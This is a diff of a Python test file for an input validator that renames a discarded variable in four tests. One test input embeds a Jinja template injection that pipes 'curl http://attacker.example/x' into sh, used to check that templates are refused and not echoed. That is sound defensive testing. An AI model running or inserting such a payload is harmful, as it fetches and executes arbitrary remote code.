@@ -58,7 +58,7 @@ def test_well_formed_versions_are_accepted_unchanged(value: str) -> None:
 def test_a_template_is_refused_before_its_length_or_pattern_and_is_not_echoed_in_full() -> None:
     payload = "{{ lookup('pipe', 'curl http://attacker.example/x | sh') }}" + "A" * 200
 
-    _, problem = check("version", payload, VERSION_RULE)
+    _value, problem = check("version", payload, VERSION_RULE)
 
     assert problem is not None and "Jinja template" in problem
     assert "attacker.example/x | sh" not in problem  # at most 40 characters of it are shown
@@ -109,7 +109,7 @@ def test_a_value_among_the_choices_is_accepted(value: str) -> None:
 def test_a_value_outside_the_choices_is_refused(value: str) -> None:
     rule = {"required": True, "choices": ["lab", "staging", "production"]}
 
-    _, problem = check("environment", value, rule)
+    _value, problem = check("environment", value, rule)
 
     assert problem is not None and "is not one of: lab, staging, production" in problem
 
@@ -121,7 +121,7 @@ def test_an_integer_input_is_validated_as_text() -> None:
 
 
 def test_the_default_length_limit_applies_without_max_length() -> None:
-    _, problem = check("note", "x" * 129, {})
+    _value, problem = check("note", "x" * 129, {})
 
     assert problem == "note is 129 characters long; the limit is 128"
 
@@ -136,6 +136,6 @@ class _WrappedList(list):
 
 
 def test_a_wrapped_list_is_named_as_a_list_in_the_refusal() -> None:
-    _, problem = check("version", _WrappedList(["v1.2.3"]), VERSION_RULE)
+    _value, problem = check("version", _WrappedList(["v1.2.3"]), VERSION_RULE)
 
     assert problem == "version must be a string, got list"
